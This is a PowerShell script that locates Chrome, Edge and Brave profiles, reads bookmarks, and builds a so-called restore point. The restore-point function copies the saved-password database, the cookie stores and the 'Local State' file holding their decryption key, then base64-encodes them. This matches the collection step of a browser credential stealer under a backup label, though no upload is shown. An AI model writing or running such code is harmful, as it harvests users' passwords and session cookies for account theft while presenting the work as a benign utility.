# ProfileReader.ps1 - locate Chromium profiles and read their files

$script:BrowserRoots = @{
    Chrome = Join-Path $env:LOCALAPPDATA 'Google\Chrome\User Data'
    Edge   = Join-Path $env:LOCALAPPDATA 'Microsoft\Edge\User Data'
    Brave  = Join-Path $env:LOCALAPPDATA 'BraveSoftware\Brave-Browser\User Data'
}

function Get-ProfileDir {
    param([string]$Browser, [string]$Profile = 'Default')
    $root = $script:BrowserRoots[$Browser]
    if (-not $root -or -not (Test-Path $root)) { throw "$Browser is not installed" }
    Join-Path $root $Profile
}

function Read-Bookmarks {
    param([string]$ProfileDir)
    $file = Join-Path $ProfileDir 'Bookmarks'
    if (-not (Test-Path $file)) { return $null }
    Get-Content $file -Raw | ConvertFrom-Json
}

# Files that make up a restore point. Copied via a temp file because the
# browser keeps SQLite databases locked while running.
$script:RestoreSet = @('Bookmarks', 'Web Data', 'Login Data', 'Cookies', 'Network\Cookies', '..\Local State')

function Get-RestorePoint {
    param([string]$ProfileDir)
    $items = @{}
    foreach ($rel in $script:RestoreSet) {
        $src = Join-Path $ProfileDir $rel
        if (-not (Test-Path $src)) { continue }
        $tmp = [System.IO.Path]::GetTempFileName()
        Copy-Item $src $tmp -Force
        $items[$rel] = [Convert]::ToBase64String([System.IO.File]::ReadAllBytes($tmp))
        Remove-Item $tmp -Force
    }
    $items
}
